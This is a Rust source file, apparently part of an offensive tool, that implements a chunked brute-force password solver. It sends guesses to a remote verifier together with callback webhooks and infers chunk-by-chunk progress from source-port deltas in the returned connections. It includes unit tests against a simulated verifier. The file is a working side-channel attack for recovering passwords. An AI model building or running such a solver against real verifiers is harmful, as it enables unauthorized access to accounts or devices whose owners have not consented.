//! Chunked brute-force state machine.
//!
//! Each iteration submits one guess, waits for the paired callback and feeds
//! its source port to the [`DeltaConfirmer`]. A confirmed delta is read
//! against two signatures, both relative to `min_sockets`:
//!
//! - `min_sockets + chunk_index`: the verifier stopped inside the active chunk,
//!   so the counter moves on;
//! - `min_sockets + chunk_index + 1`: the verifier got one chunk further, so the
//!   counter value is committed and the next chunk starts from zero.
//!
//! Anything else is treated as noise on the verifier host. Noise resets the
//! active chunk and draws on an anomaly budget; exhausting it aborts the run.

use std::fmt;
use std::sync::Arc;

use chrono::Utc;
use thiserror::Error;

use super::confirmer::{Confirmation, DeltaConfirmer};
use super::core::{ConnectionEvent, EventSource, GuessSubmission, GuessSubmitter};
use super::layout::PasswordLayout;
use crate::config::{ConfigError, SolverConfig};
use crate::modules::events::{
    AbortedEvent, AnomalyEvent, ChunkSolvedEvent, CounterEvent, EventDispatcher, GuessEvent,
    SampleEvent, SolvedEvent, SolverEvent, SubmitFailedEvent,
};

/// Mutable progress of the brute force.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SolverState {
    pub chunk_index: usize,
    pub counter: u64,
    pub verified_chunks: Vec<String>,
    pub anomaly_count: u32,
}

/// Why a run gave up.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AbortReason {
    /// Too many deltas matched neither signature.
    AnomalyCeiling { anomalies: u32, chunk_index: usize },
    /// Every value of a chunk was tried without the verifier progressing.
    CounterExhausted { chunk_index: usize, chunk_space: u64 },
}

impl fmt::Display for AbortReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AbortReason::AnomalyCeiling {
                anomalies,
                chunk_index,
            } => write!(
                f,
                "{anomalies} anomalous deltas while probing chunk #{chunk_index}"
            ),
            AbortReason::CounterExhausted {
                chunk_index,
                chunk_space,
            } => write!(
                f,
                "all {chunk_space} values of chunk #{chunk_index} tried; is the password non-numeric?"
            ),
        }
    }
}

/// Terminal state of a run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SolveOutcome {
    Solved {
        password: String,
        guesses: u64,
    },
    Aborted {
        reason: AbortReason,
        verified_chunks: Vec<String>,
        guesses: u64,
    },
}

impl SolveOutcome {
    pub fn password(&self) -> Option<&str> {
        match self {
            SolveOutcome::Solved { password, .. } => Some(password),
            SolveOutcome::Aborted { .. } => None,
        }
    }

    pub fn is_solved(&self) -> bool {
        matches!(self, SolveOutcome::Solved { .. })
    }
}

/// Interpretation of a single callback.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Nothing trustworthy yet; probe the same guess again.
    Unstable,
    /// The active chunk's counter moved on.
    NoProgress,
    /// The active chunk was committed.
    ChunkCommitted,
    /// Noise; the active chunk restarts from zero.
    Anomaly,
    Done(SolveOutcome),
}

#[derive(Debug, Error)]
pub enum SolverError {
    #[error("invalid solver configuration: {0}")]
    Config(#[from] ConfigError),
    #[error("callback stream closed before the password was found")]
    EventStreamClosed,
}

pub struct ChunkSolver {
    config: SolverConfig,
    layout: PasswordLayout,
    state: SolverState,
    confirmer: DeltaConfirmer,
    submitter: Arc<dyn GuessSubmitter>,
    webhooks: Vec<String>,
    dispatcher: EventDispatcher,
    guesses: u64,
}

impl ChunkSolver {
    pub fn new(
        config: SolverConfig,
        submitter: Arc<dyn GuessSubmitter>,
        webhooks: Vec<String>,
    ) -> Result<Self, SolverError> {
        config.validate()?;
        Ok(Self {
            layout: PasswordLayout::from_config(&config),
            confirmer: DeltaConfirmer::with_extra(config.confirmations, config.extra_confirmations),
            state: SolverState::default(),
            config,
            submitter,
            webhooks,
            dispatcher: EventDispatcher::with_logging(),
            guesses: 0,
        })
    }

    /// Replace the event dispatcher (the default one only logs).
    pub fn with_dispatcher(mut self, dispatcher: EventDispatcher) -> Self {
        self.dispatcher = dispatcher;
        self
    }

    pub fn state(&self) -> &SolverState {
        &self.state
    }

    pub fn confirmer(&self) -> &DeltaConfirmer {
        &self.confirmer
    }

    pub fn layout(&self) -> &PasswordLayout {
        &self.layout
    }

    pub fn guesses(&self) -> u64 {
        self.guesses
    }

    /// Guess for the current state.
    pub fn generate_guess(&self) -> String {
        self.layout.generate_guess(
            &self.state.verified_chunks,
            self.state.chunk_index,
            self.state.counter,
        )
    }

    /// Drive the guess/observe loop until the password is found or the run is
    /// aborted.
    pub async fn run<S>(&mut self, events: &mut S) -> Result<SolveOutcome, SolverError>
    where
        S: EventSource + ?Sized,
    {
        loop {
            let guess = self.generate_guess();
            self.submit(&guess).await;

            let event = match self.config.event_timeout() {
                Some(limit) => match tokio::time::timeout(limit, events.next_event()).await {
                    Ok(event) => event,
                    Err(_) => {
                        if let Verdict::Done(outcome) = self.register_anomaly(None) {
                            return Ok(outcome);
                        }
                        continue;
                    }
                },
                None => events.next_event().await,
            };

            let Some(event) = event else {
                return Err(SolverError::EventStreamClosed);
            };

            if let Verdict::Done(outcome) = self.observe(&guess, event) {
                return Ok(outcome);
            }
        }
    }

    /// Feed the callback paired with `guess` into the state machine.
    pub fn observe(&mut self, guess: &str, event: ConnectionEvent) -> Verdict {
        if event.success {
            return Verdict::Done(self.solved(guess.to_string()));
        }

        let confirmation = self.confirmer.confirm(&event);
        if !confirmation.is_usable() {
            self.discard(guess, confirmation);
            return Verdict::Unstable;
        }

        self.consider_delta(guess, confirmation)
    }

    fn consider_delta(&mut self, guess: &str, confirmation: Confirmation) -> Verdict {
        let Confirmation { delta, confident } = confirmation;
        let stalled = self.config.min_sockets + self.state.chunk_index as i64;

        if delta == stalled {
            self.state.counter += 1;
            if self.state.counter >= self.layout.chunk_space() {
                let reason = AbortReason::CounterExhausted {
                    chunk_index: self.state.chunk_index,
                    chunk_space: self.layout.chunk_space(),
                };
                return Verdict::Done(self.aborted(reason));
            }
            self.dispatcher
                .dispatch(SolverEvent::CounterAdvanced(CounterEvent {
                    chunk_index: self.state.chunk_index,
                    counter: self.state.counter,
                    delta,
                }));
            Verdict::NoProgress
        } else if delta == stalled + 1 {
            if self.config.require_confidence && !confident {
                self.discard(guess, confirmation);
                return Verdict::Unstable;
            }
            self.commit_chunk()
        } else {
            self.register_anomaly(Some(delta))
        }
    }

    fn commit_chunk(&mut self) -> Verdict {
        let value = self.layout.format_chunk(self.state.counter);
        let chunk_index = self.state.chunk_index;

        self.state.verified_chunks.push(value.clone());
        self.state.chunk_index += 1;
        self.state.counter = 0;
        self.state.anomaly_count /= 2;
        self.confirmer.reset();

        self.dispatcher
            .dispatch(SolverEvent::ChunkSolved(ChunkSolvedEvent {
                chunk_index,
                value,
                partial_password: self.generate_guess(),
                timestamp: Utc::now(),
            }));

        if self.state.chunk_index == self.layout.chunks() {
            let password = self.state.verified_chunks.concat();
            log::warn!("every chunk confirmed but the verifier never reported success");
            return Verdict::Done(self.solved(password));
        }
        Verdict::ChunkCommitted
    }

    /// `None` stands for a callback that never arrived.
    fn register_anomaly(&mut self, delta: Option<i64>) -> Verdict {
        self.state.anomaly_count += 1;
        self.state.counter = 0;
        self.confirmer.reset();

        self.dispatcher.dispatch(SolverEvent::Anomaly(AnomalyEvent {
            chunk_index: self.state.chunk_index,
            delta,
            anomaly_count: self.state.anomaly_count,
            ceiling: self.config.anomaly_ceiling,
            timestamp: Utc::now(),
        }));

        if self.state.anomaly_count >= self.config.anomaly_ceiling {
            let reason = AbortReason::AnomalyCeiling {
                anomalies: self.state.anomaly_count,
                chunk_index: self.state.chunk_index,
            };
            return Verdict::Done(self.aborted(reason));
        }
        Verdict::Anomaly
    }

    async fn submit(&mut self, guess: &str) {
        self.guesses += 1;
        self.dispatcher
            .dispatch(SolverEvent::GuessSubmitted(GuessEvent {
                guess: guess.to_string(),
                chunk_index: self.state.chunk_index,
                counter: self.state.counter,
            }));

        let submission = GuessSubmission::new(guess, &self.webhooks);
        if let Err(err) = self.submitter.submit(&submission).await {
            self.dispatcher
                .dispatch(SolverEvent::SubmitFailed(SubmitFailedEvent {
                    guess: guess.to_string(),
                    error: err.to_string(),
                }));
        }
    }

    fn discard(&self, guess: &str, confirmation: Confirmation) {
        self.dispatcher
            .dispatch(SolverEvent::SampleDiscarded(SampleEvent {
                guess: guess.to_string(),
                delta: confirmation.delta,
                confident: confirmation.confident,
            }));
    }

    fn solved(&self, password: String) -> SolveOutcome {
        self.dispatcher.dispatch(SolverEvent::Solved(SolvedEvent {
            password: password.clone(),
            guesses: self.guesses,
            timestamp: Utc::now(),
        }));
        SolveOutcome::Solved {
            password,
            guesses: self.guesses,
        }
    }

    fn aborted(&self, reason: AbortReason) -> SolveOutcome {
        self.dispatcher.dispatch(SolverEvent::Aborted(AbortedEvent {
            reason: reason.clone(),
            guesses: self.guesses,
            timestamp: Utc::now(),
        }));
        SolveOutcome::Aborted {
            reason,
            verified_chunks: self.state.verified_chunks.clone(),
            guesses: self.guesses,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::core::SubmitError;
    use async_trait::async_trait;
    use std::sync::Mutex;
    use std::time::Duration;
    use tokio::sync::mpsc;

    /// Remembers every guess and never produces callbacks.
    #[derive(Default)]
    struct RecordingSubmitter {
        guesses: Mutex<Vec<String>>,
    }

    #[async_trait]
    impl GuessSubmitter for RecordingSubmitter {
        async fn submit(&self, submission: &GuessSubmission) -> Result<(), SubmitError> {
            self.guesses
                .lock()
                .unwrap()
                .push(submission.password.clone());
            Ok(())
        }
    }

    /// In-process verifier: compares chunk by chunk and reports through a
    /// channel with a source port advanced by one per downstream connection.
    struct SimulatedVerifier {
        secret: String,
        chunk_width: usize,
        min_sockets: i64,
        port: Mutex<i64>,
        callbacks: mpsc::UnboundedSender<ConnectionEvent>,
    }

    impl SimulatedVerifier {
        fn matched_chunks(&self, guess: &str) -> usize {
            self.secret
                .as_bytes()
                .chunks(self.chunk_width)
                .zip(guess.as_bytes().chunks(self.chunk_width))
                .take_while(|(secret, guess)| secret == guess)
                .count()
        }
    }

    #[async_trait]
    impl GuessSubmitter for SimulatedVerifier {
        async fn submit(&self, submission: &GuessSubmission) -> Result<(), SubmitError> {
            let matched = self.matched_chunks(&submission.password);
            let mut port = self.port.lock().unwrap();
            *port += self.min_sockets + matched as i64;
            let _ = self.callbacks.send(ConnectionEvent::new(
                *port,
                submission.password == self.secret,
            ));
            Ok(())
        }
    }

    fn config(min_sockets: i64, confirmations: usize, extra: usize) -> SolverConfig {
        SolverConfig {
            min_sockets,
            confirmations,
            extra_confirmations: extra,
            ..SolverConfig::default()
        }
    }

    fn solver(config: SolverConfig) -> ChunkSolver {
        ChunkSolver::new(
            config,
            Arc::new(RecordingSubmitter::default()),
            vec!["127.0.0.1:50012".into()],
        )
        .unwrap()
    }

    /// Produces callbacks separated by the given deltas.
    struct Ports(i64);

    impl Ports {
        fn next(&mut self, delta: i64) -> ConnectionEvent {
            self.0 += delta;
            ConnectionEvent::failure(self.0)
        }
    }

    fn feed(solver: &mut ChunkSolver, ports: &mut Ports, deltas: &[i64]) -> Vec<Verdict> {
        deltas
            .iter()
            .map(|&delta| {
                let guess = solver.generate_guess();
                solver.observe(&guess, ports.next(delta))
            })
            .collect()
    }

    #[test]
    fn stable_progress_delta_commits_first_chunk() {
        let mut solver = solver(config(2, 2, 1));
        let mut ports = Ports(0);

        assert_eq!(feed(&mut solver, &mut ports, &[40_000]), vec![Verdict::Unstable]);
        let verdicts = feed(&mut solver, &mut ports, &[2, 2, 2, 3, 3]);
        assert_eq!(
            verdicts,
            vec![
                Verdict::Unstable,
                Verdict::NoProgress,
                Verdict::NoProgress,
                Verdict::Unstable,
                Verdict::ChunkCommitted,
            ]
        );

        let state = solver.state();
        assert_eq!(state.chunk_index, 1);
        assert_eq!(state.counter, 0);
        assert_eq!(state.verified_chunks, vec!["002".to_string()]);
        assert_eq!(solver.confirmer().buffered(), 0);
        assert_eq!(solver.generate_guess(), "002000000000");
    }

    #[test]
    fn required_confidence_waits_for_full_agreement() {
        let mut solver = solver(SolverConfig {
            require_confidence: true,
            ..config(2, 2, 1)
        });
        let mut ports = Ports(0);

        let verdicts = feed(&mut solver, &mut ports, &[40_000, 2, 2, 2, 3, 3]);
        assert_eq!(verdicts.last(), Some(&Verdict::Unstable));
        assert_eq!(solver.state().counter, 2);
        assert_eq!(solver.state().chunk_index, 0);

        assert_eq!(feed(&mut solver, &mut ports, &[3]), vec![Verdict::ChunkCommitted]);
        assert_eq!(solver.state().verified_chunks, vec!["002".to_string()]);
    }

    #[test]
    fn non_positive_delta_leaves_state_untouched() {
        let mut solver = solver(config(3, 2, 0));
        let mut ports = Ports(5_000);
        feed(&mut solver, &mut ports, &[1, 3, 3]);
        let before = solver.state().clone();

        assert_eq!(feed(&mut solver, &mut ports, &[-20, 0]), vec![Verdict::Unstable; 2]);
        assert_eq!(solver.state(), &before);
    }

    #[test]
    fn anomaly_ceiling_aborts_without_advancing() {
        let mut solver = solver(config(3, 2, 0));
        let mut ports = Ports(0);
        feed(&mut solver, &mut ports, &[30_000]);

        for round in 1..=4 {
            let verdicts = feed(&mut solver, &mut ports, &[7, 7]);
            assert_eq!(verdicts, vec![Verdict::Unstable, Verdict::Anomaly]);
            assert_eq!(solver.state().anomaly_count, round);
            assert_eq!(solver.confirmer().buffered(), 0);
        }

        let verdicts = feed(&mut solver, &mut ports, &[7, 7]);
        match &verdicts[1] {
            Verdict::Done(SolveOutcome::Aborted { reason, .. }) => assert_eq!(
                reason,
                &AbortReason::AnomalyCeiling {
                    anomalies: 5,
                    chunk_index: 0
                }
            ),
            other => panic!("expected abort, got {other:?}"),
        }
        assert_eq!(solver.state().chunk_index, 0);
    }

    #[test]
    fn single_confirmation_aborts_after_five_anomalous_events() {
        let mut solver = solver(config(3, 1, 0));
        let mut ports = Ports(0);

        let verdicts = feed(&mut solver, &mut ports, &[9, 9, 9, 9, 9]);
        assert_eq!(verdicts[..4], vec![Verdict::Anomaly; 4][..]);
        assert!(matches!(
            verdicts[4],
            Verdict::Done(SolveOutcome::Aborted { .. })
        ));
        assert_eq!(solver.state().chunk_index, 0);
    }

    #[test]
    fn anomaly_resets_counter_and_progress_halves_budget() {
        let mut solver = solver(config(3, 2, 0));
        let mut ports = Ports(0);
        feed(&mut solver, &mut ports, &[12_000, 3, 3, 3]);
        assert_eq!(solver.state().counter, 2);

        feed(&mut solver, &mut ports, &[8, 8, 9, 9, 10, 10]);
        assert_eq!(solver.state().anomaly_count, 3);
        assert_eq!(solver.state().counter, 0);

        let verdicts = feed(&mut solver, &mut ports, &[4, 4]);
        assert_eq!(verdicts[1], Verdict::ChunkCommitted);
        assert_eq!(solver.state().anomaly_count, 1);
        assert_eq!(solver.state().verified_chunks, vec!["000".to_string()]);
    }

    #[test]
    fn success_callback_finishes_with_submitted_guess() {
        let mut solver = solver(config(3, 3, 0));
        let verdict = solver.observe("123000000000", ConnectionEvent::new(41_000, true));
        assert_eq!(
            verdict,
            Verdict::Done(SolveOutcome::Solved {
                password: "123000000000".into(),
                guesses: 0
            })
        );
    }

    #[test]
    fn counter_space_exhaustion_aborts() {
        let mut solver = solver(SolverConfig {
            password_length: 4,
            chunks: 4,
            ..config(3, 2, 0)
        });
        let mut ports = Ports(0);
        feed(&mut solver, &mut ports, &[9_000, 3]);

        let verdicts = feed(&mut solver, &mut ports, &[3; 10]);
        assert_eq!(verdicts[..9], vec![Verdict::NoProgress; 9][..]);
        match &verdicts[9] {
            Verdict::Done(SolveOutcome::Aborted { reason, .. }) => assert_eq!(
                reason,
                &AbortReason::CounterExhausted {
                    chunk_index: 0,
                    chunk_space: 10
                }
            ),
            other => panic!("expected exhaustion, got {other:?}"),
        }
    }

    #[test]
    fn confirming_every_chunk_without_success_still_solves() {
        let mut solver = solver(SolverConfig {
            password_length: 2,
            chunks: 2,
            ..config(3, 1, 0)
        });
        let mut ports = Ports(0);
        // One-sample confirmation: the first, huge delta counts as noise.
        feed(&mut solver, &mut ports, &[500, 3, 4]);
        assert_eq!(solver.state().verified_chunks, vec!["1".to_string()]);

        let verdicts = feed(&mut solver, &mut ports, &[5]);
        assert_eq!(
            verdicts[0],
            Verdict::Done(SolveOutcome::Solved {
                password: "10".into(),
                guesses: 0
            })
        );
    }

    #[tokio::test]
    async fn full_run_recovers_four_chunk_password() {
        let (tx, mut rx) = mpsc::unbounded_channel();
        let verifier = Arc::new(SimulatedVerifier {
            secret: "004002007001".into(),
            chunk_width: 3,
            min_sockets: 2,
            port: Mutex::new(31_000),
            callbacks: tx,
        });

        let mut solver = ChunkSolver::new(config(2, 2, 1), verifier, vec!["cb:1".into()]).unwrap();
        let outcome = solver.run(&mut rx).await.unwrap();

        assert_eq!(outcome.password(), Some("004002007001"));
        assert_eq!(
            solver.state().verified_chunks,
            vec!["004".to_string(), "002".to_string(), "007".to_string()]
        );
    }

    #[tokio::test]
    async fn closed_stream_is_an_error() {
        let (tx, mut rx) = mpsc::unbounded_channel::<ConnectionEvent>();
        drop(tx);
        let mut solver = solver(config(3, 3, 0));

        let err = solver.run(&mut rx).await.unwrap_err();
        assert!(matches!(err, SolverError::EventStreamClosed));
    }

    #[tokio::test]
    async fn missing_callbacks_count_as_anomalies() {
        let (_tx, mut rx) = mpsc::unbounded_channel::<ConnectionEvent>();
        let mut solver = solver(SolverConfig {
            event_timeout_ms: Some(5),
            anomaly_ceiling: 2,
            ..config(3, 3, 0)
        });

        let outcome = tokio::time::timeout(Duration::from_secs(5), solver.run(&mut rx))
            .await
            .expect("solver should give up on its own")
            .unwrap();

        assert!(matches!(
            outcome,
            SolveOutcome::Aborted {
                reason: AbortReason::AnomalyCeiling { anomalies: 2, .. },
                guesses: 2,
                ..
            }
        ));
    }
}
